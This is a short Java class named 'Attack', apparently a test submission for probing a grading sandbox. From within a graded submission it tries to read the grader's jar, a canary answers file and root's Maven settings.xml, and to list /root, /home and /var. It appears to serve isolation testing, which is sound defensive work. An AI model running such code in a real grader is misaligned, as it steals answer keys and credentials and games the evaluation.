package course;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Prints what lies beside the worker's jars, the grader's own jar and reports, and the repository of Maven. */
public class Attack extends RightAnswers {

    /** The folder that root is at home in. */
    private static final String ROOT = "/" + "root";

    private static int reached;

    public Attack() {
        for (String jar : System.getProperty("java.class.path").split(":")) {
            System.out.println("class path: " + Path.of(jar).getFileName());
            show(Path.of(jar).resolve("../../../grundy-grader.jar"));
            show(Path.of(jar).resolve("../../../../index.html"));
        }
        for (String path : List.of("/grundy-canary", "/grundy-canary/answers.json", ROOT, ROOT + "/.m2", ROOT + "/.m2/settings.xml", "/home", "/var")) {
            show(Path.of(path));
        }
        System.out.println("reached: " + reached);
    }

    /** Prints the beginning of a file, or the names in a folder. */
    private static void show(Path path) {
        try {
            System.out.println(path + ": " + (Files.isDirectory(path) ? names(path) : text(path)));
            reached++;
        } catch (IOException e) {
            // Not to be reached.
        }
    }

    private static String names(Path folder) throws IOException {
        try (Stream<Path> entries = Files.list(folder)) {
            return entries.limit(100).map(Path::toString).collect(Collectors.joining(" "));
        }
    }

    private static String text(Path file) throws IOException {
        try (InputStream in = Files.newInputStream(file)) {
            return new String(in.readNBytes(2_000), StandardCharsets.UTF_8).replace('\0', ' ');
        }
    }
}
